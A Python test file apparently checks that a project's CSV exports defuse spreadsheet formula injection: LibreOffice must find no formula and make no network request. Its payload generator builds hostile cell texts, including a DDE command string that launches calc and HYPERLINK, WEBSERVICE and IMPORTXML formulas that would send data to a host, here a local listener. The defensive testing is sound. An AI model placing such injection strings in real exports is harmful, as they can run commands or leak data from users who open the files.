"""What LibreOffice makes of every export with hostile texts: it finds no formula and asks nobody for anything."""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import polars as pl
import pytest

from fourfold.actions._events import note_event
from fourfold.actions.export_events import export_events
from fourfold.actions.export_folder import export_folder
from fourfold.cli.output import Format, write_frame
from fourfold.connectors.files.safe_cell import safe_table
from fourfold.records.models import Measurement, Organisation
from tests.web.conftest import loaded as loaded

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not here: apt install libreoffice-calc"),
]
STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "＝", "＋", "\u00a0=", ";=", "|="]


def payloads(site: str) -> list[str]:
    """Texts that a spreadsheet might take for a formula, most of which would ask `site` for something."""
    formulas = (
        "1+1", "cmd|'/C calc'!A0", f'HYPERLINK("{site}/?x="&A1)', f'WEBSERVICE("{site}/w")', f'IMAGE("{site}/i.png")',
        f"'{site}/x.csv'#$Sheet1.A1", f'DDE("soffice";"{site}/d.ods";"A1")', f'IMPORTXML("{site}";"//a")',
    )  # fmt: skip
    return [start + formula for start in STARTS for formula in formulas]


@contextmanager
def listening() -> Iterator[tuple[str, list[str]]]:
    """A site of this machine, and what it was asked for."""
    asked: list[str] = []

    class Site(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        do_HEAD = do_OPTIONS = do_GET

        def log_message(self, *_: Any) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Site)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", asked
    finally:
        server.shutdown()
        server.server_close()


def exports(folder: Path, hostile: list[str]) -> list[Path]:
    """Every kind of table that Fourfold writes for spreadsheets, with all the texts in it."""
    bakery = Organisation.objects.get(code="bakery")
    frame = pl.DataFrame({"reason": hostile, "value": [-1.5] * len(hostile)})
    write_frame(frame, Format.CSV, folder / "table.csv")
    for text in hostile:
        note_event(bakery, None, "a.b", text, at=datetime.now(UTC), after={"said": text}, reason=text)
    lines = export_events(by=None, organisation="bakery", form="csv").value
    assert lines is not None
    (folder / "events.csv").write_text("".join(lines), encoding="utf-8", newline="")
    first = Measurement.objects.filter(organisation=bakery).order_by("pk").first()
    assert first is not None
    Measurement.objects.filter(pk=first.pk).update(reason="\n".join(hostile)[:1000], source=hostile[0])
    for row, text in zip(Measurement.objects.filter(organisation=bakery).exclude(pk=first.pk), hostile, strict=False):
        Measurement.objects.filter(pk=row.pk).update(reason=text, source=text)
    assert export_folder(by=None, path=folder / "out", organisation="bakery").ok
    shutil.copy(folder / "out" / "measurements" / "figures.csv", folder / "figures.csv")
    return [folder / name for name in ("table.csv", "events.csv", "figures.csv")]


def converted(files: list[Path], kind: str, folder: Path) -> list[Path]:
    """The same files as LibreOffice opens and writes them."""
    profile = f"-env:UserInstallation=file://{folder}/profile"
    target = folder / kind
    command = ["soffice", profile, "--headless", "--convert-to", kind, "--outdir", str(target), *map(str, files)]
    subprocess.run(command, check=True, capture_output=True, timeout=500)
    return [target / f"{file.stem}.{kind}" for file in files]


def test_c07_a_spreadsheet_finds_no_formula_in_any_export_and_asks_nobody(
    loaded: None, db: None, tmp_path: Path
) -> None:
    with listening() as (site, asked):
        hostile = payloads(site)
        files = exports(tmp_path, hostile)
        unsafe = tmp_path / "unsafe.csv"
        unsafe.write_text("reason,value\n=1+1,1\n")
        *opened, found = converted([*files, unsafe], "fods", tmp_path)
        assert "table:formula" in found.read_text()  # so it would have been found
        for file in opened:
            assert "table:formula" not in file.read_text(), file.name
        assert all(file.stat().st_size > 1000 for file in converted(files, "pdf", tmp_path))
        again = converted(files, "csv", tmp_path)
    assert asked == []
    assert len(re.findall(r'office:value="-1\.5"', opened[0].read_text())) >= 1  # numbers stay numbers
    frame = pl.DataFrame({"reason": hostile})
    assert safe_table(frame).height == len(hostile) >= 100
    with again[0].open(encoding="utf-8", newline="") as file:
        assert len(list(csv.DictReader(file))) == len(hostile), "no row was lost on the way"
